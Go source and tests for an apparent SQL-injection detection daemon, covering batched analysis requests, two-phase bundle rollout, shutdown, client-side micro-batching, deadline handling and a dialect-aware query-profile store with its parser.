	ctx, cancel := budgetContext(context.Background(), req.TimeoutMs)
	defer cancel()
	if err := s.gate.Acquire(ctx); err != nil {
		if errors.Is(err, guardrail.ErrOverloaded) {
			s.collector.RecordShed()
			resp.Err = "overloaded: " + err.Error()
		} else {
			s.timeouts.Add(1)
			resp.Err = err.Error()
		}
		return
	}
	defer s.gate.Release()
	span := s.tracer.Start(req.Query)
	start := time.Now()
	reply, err := analyzeCtx(ctx, analyzer, req.Query, span)
	if err != nil {
		if errors.Is(err, core.ErrOverBudget) && ctx.Err() == nil {
			// The analyzer hit a configured cost budget: distinct from a
			// deadline, and notable even when the sampler skipped the check.
			s.collector.RecordOverBudget()
			if span == nil {
				span = s.tracer.StartAlways(req.Query)
			}
			if span != nil {
				span.SetOverBudget(err.Error())
				s.tracer.Finish(span)
			}
		} else {
			// The budget expired mid-analysis: report it like the
			// client-side deadline it mirrors, with no check recorded.
			s.timeouts.Add(1)
		}
		resp.Err = err.Error()
		return
	}
	reply.Profile = profileReplyFor(sv.Profiles, s.recorder, req.Site, req.Query)
	reply.Version = sv.Version
	profAttack := reply.Profile != nil && reply.Profile.Attack
	s.collector.RecordCheck(false, reply.Attack, profAttack, time.Since(start))
	if span != nil {
		span.SetVerdict(false, reply.Attack, profAttack)
		if p := reply.Profile; p != nil {
			span.SetProfile(p.Site, p.Skeleton, p.Outcome)
		}
		s.tracer.Finish(span)
		s.collector.ObserveStageDurations(span.LexNs, span.PTICoverNs, span.NTIMatchNs, span.NTIPrefilterNs, span.ProfileNs)
		reply.Trace = span
	}
	resp.Reply = reply
}

// handleBatch runs one "batch" request: every item is an analyze request
// handled exactly as a standalone one — admission charged per item, the
// item's own TimeoutMs bounding its analysis, failures recorded per item —
// and the reply carries one response per item in order. One poisoned item
// (expired budget, shed, over budget) costs only its own slot; siblings
// and the connection are unaffected. A batch above the item cap is refused
// whole, on the still-healthy stream.
func (s *Server) handleBatch(req wireRequest, resp *wireResponse) {
	if len(req.Batch) == 0 {
		s.errorOps.Add(1)
		resp.Err = "empty batch"
		return
	}
	if len(req.Batch) > s.maxBatch {
		s.errorOps.Add(1)
		resp.Err = fmt.Sprintf("batch of %d items exceeds the %d-item cap", len(req.Batch), s.maxBatch)
		return
	}
	s.batchItems.Add(uint64(len(req.Batch)))
	resp.Batch = make([]wireResponse, len(req.Batch))
	for i := range req.Batch {
		item := req.Batch[i]
		if item.Dialect == "" {
			// The batch frame's dialect is the default for its items, so a
			// client stamps one field per frame instead of one per item; an
			// item can still name its own (and be refused individually).
			item.Dialect = req.Dialect
		}
		if item.Version == "" {
			// Likewise the frame's version pin defaults onto its items, and
			// a mismatched pin refuses only the item carrying it.
			item.Version = req.Version
		}
		switch item.Op {
		case "", "analyze":
			s.analyzeOps.Add(1)
			s.handleAnalyze(item, &resp.Batch[i])
		default:
			// Nested batches and the control verbs have no per-item merge
			// semantics; refusing them item-locally keeps the rest of the
			// batch alive.
			s.errorOps.Add(1)
			resp.Batch[i].Err = fmt.Sprintf("op %q not allowed in a batch", item.Op)
		}
	}
}

// handlePrepare runs phase one of the two-phase rollout: load and build
// the next generation's bundle through the configured reloader, self-test
// it against the serving process's own machinery, and stage it without
// touching what is being served. A failed prepare leaves both the serving
// bundle and any previously staged one intact, and the failure rides the
// healthy stream. Re-preparing replaces the staged bundle — prepare is
// idempotent from the coordinator's point of view.
func (s *Server) handlePrepare(resp *wireResponse) {
	s.rollMu.Lock()
	defer s.rollMu.Unlock()
	if s.reloader == nil {
		s.errorOps.Add(1)
		resp.Err = "prepare: daemon has no reloader configured"
		return
	}
	if s.rolloutHook != nil {
		s.rolloutHook("prepare")
	}
	ctx, cancel := context.WithTimeout(context.Background(), prepareTimeout)
	defer cancel()
	sv, err := s.reloader(ctx)
	if err != nil {
		s.errorOps.Add(1)
		resp.Err = "prepare: " + err.Error()
		return
	}
	if err := selftest(ctx, sv); err != nil {
		s.errorOps.Add(1)
		resp.Err = "prepare selftest: " + err.Error()
		return
	}
	s.staged = sv
	resp.Rollout = &RolloutReply{State: "staged", Version: sv.Version}
}

// selftest proves a staged bundle can actually serve before it is
// reported ready: the analyzer must complete a probe analysis and the
// profile store must match the analyzer's dialect. Catching a corrupt
// store or broken analyzer here — while the old generation still serves —
// is the whole point of the prepare phase.
func selftest(ctx context.Context, sv *Serving) error {
	if sv == nil || sv.Analyzer == nil {
		return errors.New("staged bundle has no analyzer")
	}
	if _, err := analyzeCtx(ctx, sv.Analyzer, "SELECT 1", nil); err != nil {
		return fmt.Errorf("probe analysis: %w", err)
	}
	if sv.Profiles != nil {
		if err := sv.Profiles.ForDialect(sv.Analyzer.Dialect()); err != nil {
			return err
		}
	}
	return nil
}

// handleCommit runs phase two: swap the staged bundle in as the serving
// one. A request may pin the expected version; a pin that does not match
// the staged bundle is refused on the healthy stream with the staged
// bundle kept — the coordinator decides whether to re-prepare or abort.
// With nothing staged, commit is refused (a crash-recovered daemon lost
// its staged state with the process, and the coordinator must re-prepare).
func (s *Server) handleCommit(req wireRequest, resp *wireResponse) {
	s.rollMu.Lock()
	defer s.rollMu.Unlock()
	if s.staged == nil {
		s.errorOps.Add(1)
		resp.Err = "commit: nothing staged"
		return
	}
	if req.Version != "" && req.Version != s.staged.Version {
		s.errorOps.Add(1)
		resp.Err = fmt.Sprintf("commit: staged snapshot is %q, not %q", s.staged.Version, req.Version)
		return
	}
	if s.rolloutHook != nil {
		s.rolloutHook("commit")
	}
	sv := s.staged
	s.staged = nil
	s.SetServing(sv)
	resp.Rollout = &RolloutReply{State: "committed", Version: sv.Version}
}

// handleAbort discards any staged bundle. Idempotent: aborting with
// nothing staged succeeds, so a coordinator cleaning up after a partial
// prepare can abort the whole fleet without tracking who staged what.
func (s *Server) handleAbort(resp *wireResponse) {
	s.rollMu.Lock()
	s.staged = nil
	s.rollMu.Unlock()
	resp.Rollout = &RolloutReply{State: "aborted"}
}

// Shutdown drains the server: it stops accepting connections, lets each
// connection finish the request it is serving (handlers stop picking up
// new ones, and reads blocked waiting for the next request are failed
// immediately), and waits for them up to ctx's deadline. Connections
// still busy when ctx expires are force-closed. Returns nil on a clean
// drain and ctx's error when the deadline forced the close; either way
// the server is fully stopped on return.
func (s *Server) Shutdown(ctx context.Context) error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return nil
	}
	s.closed = true
	close(s.done)
	ln := s.ln
	s.draining.Store(true)
	for c := range s.conns {
		// Fail reads parked on an idle connection; a handler mid-request is
		// unaffected (only its next read would see this) and exits at the
		// loop-top draining check after replying.
		_ = c.SetReadDeadline(time.Unix(1, 0))
	}
	s.mu.Unlock()
	if ln != nil {
		_ = ln.Close()
	}
	done := make(chan struct{})
	go func() {
		s.wg.Wait()
		close(done)
	}()
	select {
	case <-done:
		return nil
	case <-ctx.Done():
		s.mu.Lock()
		for c := range s.conns {
			_ = c.Close()
		}
		s.mu.Unlock()
		<-done
		return ctx.Err()
	}
}

// Close stops the server and waits for in-flight connections.
func (s *Server) Close() error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return nil
	}
	s.closed = true
	close(s.done)
	ln := s.ln
	for c := range s.conns {
		_ = c.Close()
	}
	s.mu.Unlock()
	var err error
	if ln != nil {
		err = ln.Close()
	}
	s.wg.Wait()
	return err
}
