package daemon

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"time"
)

// This file implements the client side of the wire protocol's "batch"
// verb: explicit AnalyzeBatch calls on Client and Pool, and the opt-in
// micro-batcher that transparently coalesces concurrent AnalyzeContext
// calls into batch frames (see PoolConfig.BatchSize). Batching amortizes
// the per-frame round trip — the dominant cost of the remote deployment
// once the analysis itself is cache-hit microseconds — across N checks.

// batchRequest builds the wire frame for one batch of queries, stamping
// ctx's remaining deadline budget on every item so the server bounds each
// analysis the same way it would a standalone request. The dialect rides
// once on the outer frame (empty for MySQL) and defaults into every item
// server-side.
func batchRequest(ctx context.Context, dialect string, queries []string) wireRequest {
	req := wireRequest{Op: "batch", Dialect: dialect, Batch: make([]wireRequest, len(queries))}
	for i, q := range queries {
		req.Batch[i] = withTimeoutBudget(ctx, wireRequest{Query: q})
	}
	return req
}

// batchResults converts a batch response into per-item results. A reply
// whose item count does not match the request is a protocol violation by
// the server: the frame itself was well-formed (the stream stays in sync),
// but no item outcome can be trusted, so the whole call fails.
func batchResults(resp wireResponse, want int) ([]BatchResult, error) {
	if len(resp.Batch) != want {
		return nil, fmt.Errorf("daemon: batch reply has %d items, want %d", len(resp.Batch), want)
	}
	out := make([]BatchResult, want)
	for i := range resp.Batch {
		item := &resp.Batch[i]
		switch {
		case item.Err != "":
			out[i].Err = fmt.Errorf("daemon: %s", item.Err)
		case item.Reply == nil:
			out[i].Err = errors.New("daemon: batch item returned no payload")
		default:
			out[i].Reply = item.Reply
		}
	}
	return out, nil
}

// AnalyzeBatch analyzes queries in one wire round trip. The returned slice
// has one result per query, in order; per-item failures (expired budget,
// shed by admission control, over budget) ride in BatchResult.Err while
// their siblings carry replies. A transport or framing failure fails the
// whole call instead.
func (c *Client) AnalyzeBatch(ctx context.Context, queries []string) ([]BatchResult, error) {
	if len(queries) == 0 {
		return nil, nil
	}
	resp, err := c.roundTrip(ctx, batchRequest(ctx, c.wireDialect(), queries))
	if err != nil {
		return nil, err
	}
	return batchResults(resp, len(queries))
}

// AnalyzeBatch analyzes queries in one pooled wire round trip, with the
// same per-item semantics as Client.AnalyzeBatch. A broken connection is
// replaced and the whole batch retried, exactly like a single pooled
// request.
func (p *Pool) AnalyzeBatch(ctx context.Context, queries []string) ([]BatchResult, error) {
	if len(queries) == 0 {
		return nil, nil
	}
	resp, err := p.do(ctx, batchRequest(ctx, wireDialect(p.cfg.Dialect), queries))
	if err != nil {
		return nil, err
	}
	return batchResults(resp, len(queries))
}

// batcher coalesces concurrent single-query AnalyzeContext calls into
// batch frames: a call joins the forming batch and the batch flushes when
// it reaches size or when the oldest call has lingered for the configured
// window. One frame then carries every coalesced check, so N concurrent
// callers pay one round trip between them instead of N.
type batcher struct {
	pool   *Pool
	size   int
	linger time.Duration

	mu      sync.Mutex
	pending []*batchCall
	timer   *time.Timer
}

// batchCall is one caller waiting inside a forming batch. done is buffered
// so a flusher can always deliver, even when the caller already gave up on
// its context and left.
type batchCall struct {
	req  wireRequest
	done chan batchOut
}

type batchOut struct {
	reply *AnalysisReply
	err   error
}

func newBatcher(p *Pool, size int, linger time.Duration) *batcher {
	if linger <= 0 {
		linger = 500 * time.Microsecond
	}
	return &batcher{pool: p, size: size, linger: linger}
}

// analyze enqueues one analyze request (already stamped with its deadline
// budget, and possibly carrying a call site) into the forming batch and
// waits for its slot's outcome. The call that fills the batch flushes it
// inline; the first call into an empty batch arms the linger timer that
// flushes a partial batch. A caller whose ctx ends while waiting returns
// ctx's error; its query may still be analyzed server-side (its stamped
// budget bounds that work), and its slot's result is discarded.
func (b *batcher) analyze(ctx context.Context, req wireRequest) (*AnalysisReply, error) {
	call := &batchCall{
		req:  req,
		done: make(chan batchOut, 1),
	}
	b.mu.Lock()
	b.pending = append(b.pending, call)
	if len(b.pending) >= b.size {
		batch := b.take()
		b.mu.Unlock()
		b.flush(batch)
	} else {
		if len(b.pending) == 1 {
			b.timer = time.AfterFunc(b.linger, b.flushPending)
		}
		b.mu.Unlock()
	}
	select {
	case out := <-call.done:
		return out.reply, out.err
	case <-ctx.Done():
		return nil, ctx.Err()
	}
}

// take detaches the forming batch and disarms its linger timer. Must be
// called with mu held.
func (b *batcher) take() []*batchCall {
	batch := b.pending
	b.pending = nil
	if b.timer != nil {
		b.timer.Stop()
		b.timer = nil
	}
	return batch
}

// flushPending is the linger-timer path: flush whatever has accumulated.
func (b *batcher) flushPending() {
	b.mu.Lock()
	batch := b.take()
	b.mu.Unlock()
	if len(batch) > 0 {
		b.flush(batch)
	}
}

// flush sends one batch frame and distributes the per-item outcomes. The
// round trip itself runs under the pool's own deadline rather than any
// single caller's context: the batch serves several callers, and each
// item already carries its own server-side budget.
func (b *batcher) flush(batch []*batchCall) {
	req := wireRequest{Op: "batch", Batch: make([]wireRequest, len(batch))}
	for i, call := range batch {
		req.Batch[i] = call.req
	}
	resp, err := b.pool.do(context.Background(), req)
	if err == nil && len(resp.Batch) != len(batch) {
		err = fmt.Errorf("daemon: batch reply has %d items, want %d", len(resp.Batch), len(batch))
	}
	if err != nil {
		for _, call := range batch {
			call.done <- batchOut{err: err}
		}
		return
	}
	for i, call := range batch {
		item := &resp.Batch[i]
		switch {
		case item.Err != "":
			call.done <- batchOut{err: fmt.Errorf("daemon: %s", item.Err)}
		case item.Reply == nil:
			call.done <- batchOut{err: errors.New("daemon: batch item returned no payload")}
		default:
			call.done <- batchOut{reply: item.Reply}
		}
	}
}
