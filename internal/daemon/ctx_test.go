package daemon

import (
	"context"
	"errors"
	"net"
	"strings"
	"sync"
	"testing"
	"time"

	"joza/internal/core"
	"joza/internal/nti"
)

// stallConn returns a client-side connection whose server side reads
// requests forever and never replies, plus a cleanup.
func stallConn(t *testing.T) net.Conn {
	t.Helper()
	clientSide, serverSide := net.Pipe()
	done := make(chan struct{})
	go func() {
		defer close(done)
		buf := make([]byte, 4096)
		for {
			if _, err := serverSide.Read(buf); err != nil {
				return
			}
		}
	}()
	t.Cleanup(func() {
		_ = serverSide.Close()
		_ = clientSide.Close()
		<-done
	})
	return clientSide
}

func TestClientPreCanceledLeavesConnHealthy(t *testing.T) {
	c, stop := SpawnPipe(newAnalyzer())
	defer stop()
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := c.AnalyzeContext(ctx, benignQuery); !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	if c.Broken() {
		t.Fatal("pre-flight cancellation must not break the connection")
	}
	// The same connection still serves requests: no bytes were written, so
	// the stream stayed in sync.
	reply, err := c.Analyze(benignQuery)
	if err != nil {
		t.Fatal(err)
	}
	if reply.Attack {
		t.Error("benign flagged")
	}
}

func TestClientCancelMidRoundTripSurfacesCtxError(t *testing.T) {
	c := NewClient(stallConn(t))
	ctx, cancel := context.WithCancel(context.Background())
	errc := make(chan error, 1)
	go func() {
		_, err := c.AnalyzeContext(ctx, benignQuery)
		errc <- err
	}()
	// Let the request get in flight, then abandon it.
	time.Sleep(20 * time.Millisecond)
	cancel()
	select {
	case err := <-errc:
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("err = %v, want context.Canceled", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("cancellation did not unblock the round trip")
	}
	// The stream may hold a stray late reply; the connection must be dead.
	if !c.Broken() {
		t.Error("mid-exchange cancellation must break the connection")
	}
}

func TestClientDeadlineSurfacesCtxError(t *testing.T) {
	c := NewClient(stallConn(t))
	ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
	defer cancel()
	_, err := c.AnalyzeContext(ctx, benignQuery)
	if !errors.Is(err, context.DeadlineExceeded) {
		t.Fatalf("err = %v, want context.DeadlineExceeded", err)
	}
}

func TestServerHonorsWireDeadline(t *testing.T) {
	// A negative TimeoutMs arrives already expired — the deterministic form
	// of "the client's deadline passed while the request was in flight".
	// The server must refuse the work, report the context error, and count
	// a timeout; the wire protocol itself stays healthy.
	srv := NewServer(newAnalyzer())
	clientSide, serverSide := net.Pipe()
	done := make(chan struct{})
	go func() {
		defer close(done)
		srv.ServeConn(serverSide)
	}()
	c := NewClient(clientSide)
	defer func() {
		_ = c.Close()
		_ = serverSide.Close()
		<-done
	}()

	_, err := c.roundTrip(context.Background(), wireRequest{Query: benignQuery, TimeoutMs: -1})
	if err == nil || !strings.Contains(err.Error(), "deadline") {
		t.Fatalf("err = %v, want daemon-side deadline error", err)
	}
	if c.Broken() {
		t.Error("a daemon-level error must not break the wire stream")
	}
	if got := srv.Stats().DaemonTimeouts; got != 1 {
		t.Errorf("DaemonTimeouts = %d, want 1", got)
	}
	// A request with budget to spare sails through on the same connection.
	reply, err := c.AnalyzeContext(context.Background(), benignQuery)
	if err != nil {
		t.Fatal(err)
	}
	if reply.Attack {
		t.Error("benign flagged")
	}
	if got := srv.collector.Snapshot().Checks; got != 1 {
		t.Errorf("server recorded %d checks, want 1 (timed-out analyze must not count)", got)
	}
}

func TestWithTimeoutBudget(t *testing.T) {
	if req := withTimeoutBudget(context.Background(), wireRequest{}); req.TimeoutMs != 0 {
		t.Errorf("no deadline: TimeoutMs = %d, want 0", req.TimeoutMs)
	}
	ctx, cancel := context.WithTimeout(context.Background(), time.Hour)
	defer cancel()
	if req := withTimeoutBudget(ctx, wireRequest{}); req.TimeoutMs <= 0 {
		t.Errorf("live deadline: TimeoutMs = %d, want > 0", req.TimeoutMs)
	}
	spent, cancel2 := context.WithDeadline(context.Background(), time.Now().Add(-time.Second))
	defer cancel2()
	if req := withTimeoutBudget(spent, wireRequest{}); req.TimeoutMs != -1 {
		t.Errorf("spent deadline: TimeoutMs = %d, want -1", req.TimeoutMs)
	}
}

func TestPoolCanceledWhileSlotsBusy(t *testing.T) {
	// One slot, occupied by a request against a stalled upstream: a second
	// request whose context is already done must fail with the context
	// error instead of queueing behind it.
	var mu sync.Mutex
	var serverSides []net.Conn
	p := NewPool(func() (net.Conn, error) {
		clientSide, serverSide := net.Pipe()
		mu.Lock()
		serverSides = append(serverSides, serverSide)
		mu.Unlock()
		go func() {
			buf := make([]byte, 4096)
			for {
				if _, err := serverSide.Read(buf); err != nil {
					return
				}
			}
		}()
		return clientSide, nil
	}, PoolConfig{Size: 1, Timeout: time.Minute, MaxAttempts: 1})
	defer func() {
		_ = p.Close()
		mu.Lock()
		for _, s := range serverSides {
			_ = s.Close()
		}
		mu.Unlock()
	}()

	firstCtx, cancelFirst := context.WithCancel(context.Background())
	firstErr := make(chan error, 1)
	go func() {
		_, err := p.AnalyzeContext(firstCtx, benignQuery)
		firstErr <- err
	}()
	time.Sleep(20 * time.Millisecond) // let the first request claim the slot

	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	start := time.Now()
	if _, err := p.AnalyzeContext(ctx, benignQuery); !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	if elapsed := time.Since(start); elapsed > 2*time.Second {
		t.Errorf("canceled request waited %v for a slot", elapsed)
	}

	cancelFirst()
	select {
	case err := <-firstErr:
		if !errors.Is(err, context.Canceled) {
			t.Errorf("first request err = %v, want context.Canceled", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("first request did not observe cancellation")
	}
}

func TestHybridCheckContextPreCanceled(t *testing.T) {
	h := NewHybridClient(NewDirect(newAnalyzer()), nti.MustNew(), core.PolicyTerminate)
	defer h.Close()
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := h.CheckContext(ctx, benignQuery, nil)
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	if n := h.Metrics().Checks; n != 0 {
		t.Errorf("canceled check recorded %d checks", n)
	}
	// The transport stays healthy for the next check.
	v, err := h.CheckContext(context.Background(), benignQuery, nil)
	if err != nil {
		t.Fatal(err)
	}
	if v.Attack {
		t.Error("benign flagged")
	}
}
