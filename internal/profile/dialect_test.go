package profile

import (
	"bytes"
	"strings"
	"testing"

	"joza/internal/sqltoken"
)

func TestSkeletonDialectFoldsDollarQuote(t *testing.T) {
	// A dollar-quoted body is one string literal in Postgres (folds to ?)
	// and live tokens in MySQL — the skeletons must differ, which is the
	// reason the store header records its dialect.
	q := "SELECT * FROM t WHERE a = $q$some body$q$"
	pg := SkeletonDialect(sqltoken.Postgres, q)
	my := SkeletonDialect(sqltoken.MySQL, q)
	if pg == my {
		t.Fatalf("Postgres and MySQL skeletons agree on a dollar-quoted body: %q", pg)
	}
	if !strings.Contains(pg, "?") || strings.Contains(pg, "body") {
		t.Errorf("Postgres skeleton did not fold the dollar-quoted body: %q", pg)
	}
}

func TestSkeletonDefaultIsMySQL(t *testing.T) {
	qs := []string{
		"SELECT * FROM t WHERE a = 'x' # tail",
		`SELECT "double" FROM t`,
		"INSERT INTO t VALUES (1, 'a\\'b')",
	}
	for _, q := range qs {
		if got, want := Skeleton(q), SkeletonDialect(sqltoken.MySQL, q); got != want {
			t.Errorf("Skeleton(%q) = %q, want MySQL-dialect %q", q, got, want)
		}
	}
}

func TestStoreV2RoundTrip(t *testing.T) {
	rec := NewRecorderDialect(sqltoken.Postgres)
	rec.Record("plugin:posts", "SELECT * FROM posts WHERE id = $1")
	rec.Record("plugin:login", "SELECT pass FROM users WHERE login = 'alice'")

	st := rec.Store()
	if st.Dialect() != sqltoken.Postgres {
		t.Fatalf("Store dialect = %v, want Postgres", st.Dialect())
	}

	first := st.Bytes()
	if !bytes.HasPrefix(first, []byte(HeaderV2+"\n"+`dialect "postgres"`+"\n")) {
		t.Fatalf("non-MySQL store did not serialize as v2 with a dialect directive:\n%s", first)
	}
	parsed, err := Parse(first)
	if err != nil {
		t.Fatalf("Parse(own v2 serialization): %v", err)
	}
	if parsed.Dialect() != sqltoken.Postgres {
		t.Fatalf("parsed dialect = %v, want Postgres", parsed.Dialect())
	}
	second := parsed.Bytes()
	if !bytes.Equal(first, second) {
		t.Errorf("v2 serialize->parse->serialize is not bit-identical:\n%q\nvs\n%q", first, second)
	}

	sk := SkeletonDialect(sqltoken.Postgres, "SELECT * FROM posts WHERE id = $2")
	if got := parsed.Lookup("plugin:posts", sk); got != SkeletonSeen {
		t.Errorf("Lookup(known Postgres skeleton) = %v, want SkeletonSeen", got)
	}
}

func TestStoreV1StaysBitIdenticalForMySQL(t *testing.T) {
	rec := NewRecorder()
	rec.Record("site", "SELECT 1")
	b := rec.Store().Bytes()
	if !bytes.HasPrefix(b, []byte(Header+"\n")) {
		t.Fatalf("MySQL store did not serialize as v1:\n%s", b)
	}
	if bytes.Contains(b, []byte("dialect")) {
		t.Fatalf("MySQL store leaked a dialect directive:\n%s", b)
	}
}

func TestParseV1MeansMySQL(t *testing.T) {
	in := Header + "\n" + `site "a"` + "\n" + `sk "SELECT ?"` + "\n"
	st, err := Parse([]byte(in))
	if err != nil {
		t.Fatalf("Parse: %v", err)
	}
	if st.Dialect() != sqltoken.MySQL {
		t.Errorf("v1 store dialect = %v, want MySQL", st.Dialect())
	}
	if err := st.ForDialect(sqltoken.MySQL); err != nil {
		t.Errorf("ForDialect(MySQL) on v1 store: %v", err)
	}
	if err := st.ForDialect(sqltoken.Postgres); err == nil {
		t.Error("ForDialect(Postgres) on v1 store succeeded, want mismatch error")
	}
}

func TestParseDialectDirectiveErrors(t *testing.T) {
	cases := []struct {
		name string
		in   string
	}{
		{"v1 with dialect", Header + "\n" + `dialect "postgres"` + "\n"},
		{"v2 without dialect", HeaderV2 + "\n" + `site "a"` + "\n" + `sk "x"` + "\n"},
		{"v2 empty", HeaderV2 + "\n"},
		{"unknown dialect", HeaderV2 + "\n" + `dialect "oracle"` + "\n"},
		{"unquoted dialect", HeaderV2 + "\ndialect postgres\n"},
		{"duplicate dialect", HeaderV2 + "\n" + `dialect "postgres"` + "\n" + `dialect "postgres"` + "\n"},
		{"dialect after site", HeaderV2 + "\n" + `site "a"` + "\n" + `dialect "postgres"` + "\n"},
	}
	for _, tc := range cases {
		if _, err := Parse([]byte(tc.in)); err == nil {
			t.Errorf("%s: Parse accepted corrupt input %q", tc.name, tc.in)
		}
	}
}

func TestNilStoreDialect(t *testing.T) {
	var s *Store
	if s.Dialect() != sqltoken.MySQL {
		t.Errorf("nil store dialect = %v, want MySQL", s.Dialect())
	}
	if err := s.ForDialect(sqltoken.MySQL); err != nil {
		t.Errorf("nil store ForDialect(MySQL): %v", err)
	}
	if err := s.ForDialect(sqltoken.SQLite); err == nil {
		t.Error("nil store ForDialect(SQLite) succeeded, want mismatch error")
	}
}

func TestRecorderDialectThreaded(t *testing.T) {
	rec := NewRecorderDialect(sqltoken.Postgres)
	if rec.Dialect() != sqltoken.Postgres {
		t.Fatalf("recorder dialect = %v", rec.Dialect())
	}
	// The recorder must compute Postgres skeletons: a $1 placeholder folds
	// to the placeholder marker, not a MySQL $1 identifier.
	sk := rec.Record("site", "SELECT * FROM t WHERE id = $1")
	if want := SkeletonDialect(sqltoken.Postgres, "SELECT * FROM t WHERE id = $1"); sk != want {
		t.Errorf("recorded skeleton %q, want %q", sk, want)
	}
	if my := SkeletonDialect(sqltoken.MySQL, "SELECT * FROM t WHERE id = $1"); sk == my {
		t.Errorf("Postgres recorder produced a MySQL skeleton: %q", sk)
	}
}
