package profile

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"os"
	"sort"
	"strconv"
	"strings"
	"sync"

	"joza/internal/sqltoken"
)

// Header is the first line of the v1 serialized profile format. The
// version suffix lets the format evolve while old stores keep loading.
// v1 has no dialect directive and always means MySQL; MySQL stores keep
// serializing as v1 so files written before dialects existed round-trip
// bit-identically.
const Header = "joza-profile v1"

// HeaderV2 is the first line of the v2 format: v1 plus a mandatory
// `dialect "<name>"` directive before the first site. Only non-MySQL
// stores serialize as v2.
const HeaderV2 = "joza-profile v2"

// Store is an immutable set of (call site → query skeletons) profiles, the
// enforcement side of the subsystem. It is loaded into an engine Snapshot
// and shared by every in-flight check without locking, exactly like the
// fragment set: build (or Parse) a Store, hand it to the snapshot, never
// mutate it. A nil *Store behaves as empty.
type Store struct {
	sites map[string]map[string]struct{}
	// skeletons is the total skeleton count across sites, for stats.
	skeletons int
	// dialect is the SQL dialect the skeletons were computed under. The
	// zero value is sqltoken.MySQL.
	dialect sqltoken.Dialect
}

// Dialect returns the SQL dialect the store's skeletons were computed
// under. A nil store reports MySQL.
func (s *Store) Dialect() sqltoken.Dialect {
	if s == nil {
		return sqltoken.MySQL
	}
	return s.dialect
}

// ForDialect verifies the store was trained under dialect d. Enforcing a
// store against queries lexed under a different dialect would compare
// incommensurable skeletons — every lookup could silently miss — so
// loaders must treat a mismatch as a configuration error, not a warning.
func (s *Store) ForDialect(d sqltoken.Dialect) error {
	if got := s.Dialect(); got != d {
		return fmt.Errorf("profile: store trained under dialect %s, guard runs %s", got, d)
	}
	return nil
}

// Lookup classifies one (site, skeleton) pair against the store.
type Lookup int

const (
	// SkeletonSeen: the site issued this skeleton during training.
	SkeletonSeen Lookup = iota
	// SkeletonUnseen: the site is profiled but never issued this skeleton
	// — the unseen-skeleton signal the enforcement stage flags.
	SkeletonUnseen
	// SiteUnknown: the site has no profile at all. Enforcement treats this
	// leniently by default (coverage gaps in training must not take the
	// application down) and strictly on request.
	SiteUnknown
)

// Lookup classifies skeleton against site's profile.
func (s *Store) Lookup(site, skeleton string) Lookup {
	if s == nil {
		return SiteUnknown
	}
	sk, ok := s.sites[site]
	if !ok {
		return SiteUnknown
	}
	if _, ok := sk[skeleton]; ok {
		return SkeletonSeen
	}
	return SkeletonUnseen
}

// Sites returns the number of profiled call sites.
func (s *Store) Sites() int {
	if s == nil {
		return 0
	}
	return len(s.sites)
}

// Skeletons returns the total skeleton count across all sites.
func (s *Store) Skeletons() int {
	if s == nil {
		return 0
	}
	return s.skeletons
}

// Serialize writes the store in the versioned text format: the header
// line, then for each site a `site` line followed by one `sk` line per
// skeleton, both quoted. Output is deterministic — sites and skeletons in
// sorted order — so serializing a parsed store reproduces its input
// bit-identically.
func (s *Store) Serialize(w io.Writer) error {
	bw := bufio.NewWriter(w)
	if s.Dialect() == sqltoken.MySQL {
		// MySQL stores stay v1, byte-for-byte what pre-dialect builds wrote.
		if _, err := fmt.Fprintln(bw, Header); err != nil {
			return err
		}
	} else {
		if _, err := fmt.Fprintln(bw, HeaderV2); err != nil {
			return err
		}
		if _, err := fmt.Fprintf(bw, "dialect %s\n", strconv.Quote(s.Dialect().String())); err != nil {
			return err
		}
	}
	if s != nil {
		sites := make([]string, 0, len(s.sites))
		for site := range s.sites {
			sites = append(sites, site)
		}
		sort.Strings(sites)
		for _, site := range sites {
			fmt.Fprintf(bw, "site %s\n", strconv.Quote(site))
			sks := make([]string, 0, len(s.sites[site]))
			for sk := range s.sites[site] {
				sks = append(sks, sk)
			}
			sort.Strings(sks)
			for _, sk := range sks {
				fmt.Fprintf(bw, "sk %s\n", strconv.Quote(sk))
			}
		}
	}
	return bw.Flush()
}

// Bytes serializes the store to memory.
func (s *Store) Bytes() []byte {
	var buf bytes.Buffer
	_ = s.Serialize(&buf) // bytes.Buffer writes cannot fail
	return buf.Bytes()
}

// Parse reads a serialized store. It is strict: a bad header, an
// unquotable line, an `sk` before any `site`, or trailing garbage fail
// with a line-numbered error, so a corrupt profile file is refused rather
// than silently enforced half-loaded.
func Parse(data []byte) (*Store, error) {
	sc := bufio.NewScanner(bytes.NewReader(data))
	sc.Buffer(make([]byte, 64*1024), 16*1024*1024)
	if !sc.Scan() {
		return nil, fmt.Errorf("profile: empty input (want %q header)", Header)
	}
	version := 0
	switch sc.Text() {
	case Header:
		version = 1
	case HeaderV2:
		version = 2
	default:
		return nil, fmt.Errorf("profile: bad header %q (want %q or %q)", sc.Text(), Header, HeaderV2)
	}
	st := &Store{sites: make(map[string]map[string]struct{})}
	sawDialect := false
	var cur map[string]struct{}
	line := 1
	for sc.Scan() {
		line++
		text := sc.Text()
		switch {
		case strings.HasPrefix(text, "dialect "):
			if version < 2 {
				return nil, fmt.Errorf("profile: line %d: dialect directive in a v1 store", line)
			}
			if sawDialect {
				return nil, fmt.Errorf("profile: line %d: duplicate dialect directive", line)
			}
			if cur != nil {
				return nil, fmt.Errorf("profile: line %d: dialect directive after first site", line)
			}
			name, err := strconv.Unquote(text[len("dialect "):])
			if err != nil {
				return nil, fmt.Errorf("profile: line %d: bad dialect: %v", line, err)
			}
			d, err := sqltoken.ParseDialect(name)
			if err != nil {
				return nil, fmt.Errorf("profile: line %d: %v", line, err)
			}
			st.dialect = d
			sawDialect = true
